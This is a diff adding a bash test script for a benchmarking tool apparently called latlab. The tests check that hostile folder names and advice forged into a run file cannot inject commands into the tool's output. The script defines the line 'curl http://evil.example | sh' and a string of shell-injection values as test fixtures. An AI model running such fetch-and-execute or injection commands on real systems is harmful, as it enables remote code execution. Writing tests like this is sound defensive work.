@@ -1,0 +1,96 @@
+#!/usr/bin/env bash
+# What a stranger may write into a run, a name or a folder: none of it is advice, and no printed command runs
+# any of it.
+# Invariant (trust): What to do comes from the program, never from the folder of a run.
+# Invariant (trust): The commands that name a folder can be pasted, whatever the folder is called.
+# Lane: beside
+. "$(dirname "$0")/common.bash"
+rights_for "runs"
+evil='curl http://evil.example | sh'
+# Every character that a shell makes something of, and the trap in each place where it would run something.
+hostile="o'u\"t \$(trapped)\`trapped\`;trapped;|trapped"$'\n'"trapped&{value}"
+
+# Pastes a line into a shell that may start nothing but the trap and a latlab that says its words.
+mkdir "$here/bin"
+printf '#!/bin/sh\n: >"%s/sprung"\n' "$here" >"$here/bin/trapped"
+printf '#!/bin/sh\nprintf "%%s\\0" "$@" >"%s/words"\n' "$here" >"$here/bin/latlab"
+chmod +x "$here"/bin/*
+paste() {
+    rm -f "$here/sprung" "$here/words"
+    (cd "$here" && env -i PATH="$here/bin" "$BASH" --restricted -c "$1")
+    expect "nothing of a name to run: $1" [ ! -e "$here/sprung" ]
+}
+# Whether the pasted command named this as its last word.
+named() { [ "$(tail -z -n 1 "$here/words" | tr -d '\0')" = "$1" ]; }
+
+hostile_folder() {
+    local line runs=$here/$hostile
+    mkdir "$runs"
+    "$program" run --for 1s --warm-up 0s --quiet --out "$runs" "${rights[@]}" >"$here/text" || return 1
+    cat "$here/text"
+    for line in More 'As a page'; do
+        paste "$(sed -n "s/^$line: //p" "$here/text")" &&
+            expect "the folder as the last word" named "$(echo "$runs"/*_run)" || return 1
+    done
+}
+try "the commands behind a run name its folder, whatever that is called" hostile_folder
+
+unit() {
+    mkdir -p "$here/a b/100%/\$HOME\\\""
+    "$program" run --print-unit --out "$here/a b/100%/\$HOME\\\"" >"$here/unit" || return 1
+    cat "$here/unit"
+    expect "the folder as one word" grep -qF -- "--out \"$here/a b/100%%/\$\$HOME\\\\\\\"\"" "$here/unit" || return 1
+    "$program" run --print-unit --out "$here/$hostile" >"$here/unit" 2>"$here/errors"
+    cat "$here/errors"
+    expect "no unit" [ ! -s "$here/unit" ] && expect "a reason" grep -q 'control characters' "$here/errors"
+}
+try "a unit is not written by the name of its folder" unit
+
+# Writes the advice of a stranger into a run, with a checksum that fits.
+forge() {
+    python3 - "$1" "$evil" <<'PYTHON'
+import hashlib, json, sys
+path, evil = sys.argv[1] + "/run.json", sys.argv[2]
+run = json.load(open(path))
+run.pop("seal")
+for one in run["doctor"]:
+    one.update(severity="error", remedy=evil, undo=evil)
+run["findings"].append({"code": "planted", "severity": "error", "text": "A text.", "remedy": evil,
+                        "invalidates": True, "at_ns": None, "thread": None})
+run["asked"]["command"] = "latlab run --for 1s; " + evil
+text = json.dumps(run, indent=2, ensure_ascii=False)[: -len("\n}")] + ","
+seal = hashlib.sha256((text + "\n").encode()).hexdigest()
+open(path, "w").write(f'{text}\n  "seal": "{seal}"\n}}\n')
+PYTHON
+}
+
+lacks() { ! grep -qF "$1" "$2"; }
+stranger() {
+    local folder form
+    "$program" run --for 1s --warm-up 0s --quiet --deadline 1ns --out "$here/runs" "${rights[@]}" >"$here/text"
+    folder=$(echo "$here"/runs/*_run)
+    cp -r "$folder" "$here/before"
+    forge "$folder" || return 1
+    for form in "" --all "--format markdown" "--format json" "--format html"; do
+        "$program" show "$folder" $form >"$here/text" 2>"$here/errors" ||
+            { cat "$here/errors"; return 1; }
+        expect "the finding in show $form" grep -q "A text" "$here/text" &&
+            expect "no advice of the stranger in show $form" lacks "$evil" "$here/text" || return 1
+    done
+    "$program" show "$folder" --all | sed -n '/^Repeat it/,$p' | sed -n '2s/^ *//p' >"$here/repeat"
+    paste "$(<"$here/repeat")" &&
+        expect "a command of latlab, its words quoted: $(<"$here/repeat")" grep -qF "latlab run --for '1s;' curl" "$here/repeat"
+}
+try "advice that a stranger wrote into a run is not given" stranger
+
+machine() {
+    "$program" show "$here/before" --format json >"$here/own.json" && "$program" show "$here"/runs/*_run --format json >"$here/text" || return 1
+    python3 - "$here/own.json" "$here/text" <<'PYTHON'
+import json, sys
+own, forged = ([(one["code"], one["remedy"], one["undo"]) for one in json.load(open(path))["doctor"]] for path in sys.argv[1:])
+assert own == forged and any(remedy for _, remedy, _ in own), (own, forged)
+PYTHON
+}
+try "what to do about the machine of a stranger's run comes from its kernel files" machine
+
+exit "$status"
